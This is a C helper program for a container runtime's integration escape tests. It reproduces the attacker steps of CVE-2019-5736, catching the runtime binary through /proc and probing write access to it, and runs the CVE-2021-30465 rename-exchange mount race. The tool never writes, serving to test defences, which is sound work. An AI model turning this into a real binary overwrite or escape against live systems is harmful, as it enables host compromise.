// escape_tools: the attacker's side of tests/integration/escapes_test.sh. Built static, it
// runs inside the busybox containers (and on the host for `swap`). It never writes to
// anything it manages to open: the tests only need to know whether an open would succeed.
//
//   exe-attack DEV:INO RESULT   CVE-2019-5736: watch /proc for a process whose executable
//                               is the file DEV:INO (the runtime's binary), keep an O_PATH
//                               descriptor of it, wait for the process to end, then try to
//                               reopen the binary for writing through /proc/self/fd/K (no
//                               O_TRUNC, nothing written). Writes RESULT.caught when it has
//                               the descriptor, then RESULT: "OPENED" or an errno name, and
//                               "ro" or "rw" for the mount the binary was run from. Then
//                               sleeps (it is the container's init).
//   openw PATH...               for each PATH print "PATH OPENED" or "PATH ERRNO" for
//                               open(PATH, O_WRONLY) (no O_TRUNC, nothing written).
//   euid                        print "euid=N" and this process's CapEff line (setuid probe).
//   swap A B [N]                exchange the names A and B (renameat2 RENAME_EXCHANGE) N
//                               times, or in a tight loop until killed (CVE-2021-30465 mount
//                               target race).
#define _GNU_SOURCE
#include <ctype.h>
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <sys/statvfs.h>
#include <sys/syscall.h>
#include <sys/types.h>
#include <time.h>
#include <unistd.h>

#ifndef RENAME_EXCHANGE
#define RENAME_EXCHANGE (1 << 1)
#endif

static const char *errno_name(int e) {
  switch (e) {
    case EROFS: return "EROFS";
    case ETXTBSY: return "ETXTBSY";
    case EACCES: return "EACCES";
    case EPERM: return "EPERM";
    case ENOENT: return "ENOENT";
    case EISDIR: return "EISDIR";
    case EINVAL: return "EINVAL";
    case EBUSY: return "EBUSY";
    case ENXIO: return "ENXIO";
    case EIO: return "EIO";
    default: return NULL;
  }
}

static void put_errno(FILE *f, int e) {
  const char *n = errno_name(e);
  if (n != NULL) {
    fprintf(f, "%s", n);
  } else {
    fprintf(f, "errno%d", e);
  }
}

// write_file PATH TEXT: write TEXT to PATH atomically (PATH.tmp then rename).
static void write_file(const char *path, const char *text) {
  char tmp[4096];
  snprintf(tmp, sizeof tmp, "%s.tmp", path);
  FILE *f = fopen(tmp, "w");
  if (f == NULL) {
    perror(tmp);
    exit(1);
  }
  fprintf(f, "%s\n", text);
  if (fclose(f) != 0 || rename(tmp, path) != 0) {
    perror(path);
    exit(1);
  }
}

static double now(void) {
  struct timespec ts;
  clock_gettime(CLOCK_MONOTONIC, &ts);
  return (double)ts.tv_sec + (double)ts.tv_nsec / 1e9;
}

// The process has exited: gone, or a zombie.
static int gone(pid_t pid) {
  char p[64], buf[512];
  snprintf(p, sizeof p, "/proc/%d/stat", (int)pid);
  int fd = open(p, O_RDONLY | O_CLOEXEC);
  if (fd < 0) return 1;
  ssize_t n = read(fd, buf, sizeof buf - 1);
  close(fd);
  if (n <= 0) return 1;
  buf[n] = 0;
  char *rp = strrchr(buf, ')');
  return rp == NULL || rp[1] == 0 || rp[2] == 'Z' || rp[2] == 'X';
}

static int exe_attack(const char *devino, const char *result) {
  unsigned long long want_dev, want_ino;
  if (sscanf(devino, "%llu:%llu", &want_dev, &want_ino) != 2) {
    fprintf(stderr, "exe-attack: bad DEV:INO %s\n", devino);
    return 2;
  }
  pid_t self = getpid();
  int fd = -1;
  pid_t victim = 0;
  while (fd < 0) {
    DIR *d = opendir("/proc");
    if (d == NULL) {
      perror("/proc");
      return 1;
    }
    struct dirent *e;
    while ((e = readdir(d)) != NULL) {
      if (!isdigit((unsigned char)e->d_name[0])) continue;
      pid_t pid = (pid_t)atoi(e->d_name);
      if (pid == self) continue;
      char p[64];
      snprintf(p, sizeof p, "/proc/%d/exe", (int)pid);
      int f = open(p, O_PATH | O_CLOEXEC);
      if (f < 0) continue;
      struct stat st;
      if (fstat(f, &st) == 0 && (unsigned long long)st.st_dev == want_dev &&
          (unsigned long long)st.st_ino == want_ino) {
        fd = f;
        victim = pid;
        break;
      }
      close(f);
    }
    closedir(d);
  }
  // The mount the process ran the binary from: a protected runtime runs from a read-only one.
  struct statvfs sv;
  const char *mnt = fstatvfs(fd, &sv) < 0 ? "unknown" : (sv.f_flag & ST_RDONLY) ? "ro" : "rw";
  char text[256];
  snprintf(text, sizeof text, "caught pid %d fd %d", (int)victim, fd);
  char caught[4096];
  snprintf(caught, sizeof caught, "%s.caught", result);
  write_file(caught, text);
  // Only once the process is gone is the binary no longer busy as its text.
  while (!gone(victim)) usleep(1000);
  char self_fd[64];
  snprintf(self_fd, sizeof self_fd, "/proc/self/fd/%d", fd);
  // Other runs of the binary (the runtime on the host) keep it busy for a moment:
  // ETXTBSY is retried for 10 s, as an attacker would.
  double end = now() + 10;
  int err;
  for (;;) {
    int w = open(self_fd, O_WRONLY | O_CLOEXEC);
    if (w >= 0) {
      close(w);  // never write: the test must not damage the binary
      err = 0;
      break;
    }
    err = errno;
    if (err != ETXTBSY || now() > end) break;
    usleep(2000);
  }
  char out[128];
  FILE *m = fmemopen(out, sizeof out, "w");
  if (m == NULL) return 1;
  if (err == 0) {
    fprintf(m, "OPENED");
  } else {
    put_errno(m, err);
  }
  fprintf(m, " %s", mnt);
  fclose(m);
  write_file(result, out);
  for (;;) pause();
}

static int openw(int argc, char **argv) {
  for (int i = 0; i < argc; i++) {
    int fd = open(argv[i], O_WRONLY | O_CLOEXEC | O_NOCTTY | O_NONBLOCK);
    printf("%s ", argv[i]);
    if (fd >= 0) {
      close(fd);
      printf("OPENED\n");
    } else {
      put_errno(stdout, errno);
      printf("\n");
    }
  }
  return 0;
}

static int euid(void) {
  printf("euid=%d\n", (int)geteuid());
  FILE *f = fopen("/proc/self/status", "r");
  if (f == NULL) return 1;
  char line[256];
  while (fgets(line, sizeof line, f) != NULL) {
    if (strncmp(line, "CapEff:", 7) == 0 || strncmp(line, "NoNewPrivs:", 11) == 0) {
      fputs(line, stdout);
    }
  }
  fclose(f);
  return 0;
}

static int swap(const char *a, const char *b, long n) {
  for (long i = 0; n < 0 || i < n; i++) {
    if (syscall(SYS_renameat2, AT_FDCWD, a, AT_FDCWD, b, RENAME_EXCHANGE) < 0) {
      perror("renameat2");
      return 1;
    }
  }
  return 0;
}

int main(int argc, char **argv) {
  if (argc >= 4 && strcmp(argv[1], "exe-attack") == 0) return exe_attack(argv[2], argv[3]);
  if (argc >= 2 && strcmp(argv[1], "openw") == 0) return openw(argc - 2, argv + 2);
  if (argc >= 2 && strcmp(argv[1], "euid") == 0) return euid();
  if (argc >= 4 && strcmp(argv[1], "swap") == 0) {
    return swap(argv[2], argv[3], argc >= 5 ? atol(argv[4]) : -1);
  }
  fprintf(stderr, "usage: %s exe-attack DEV:INO RESULT | openw PATH... | euid | swap A B [N]\n",
          argv[0]);
  return 2;
}
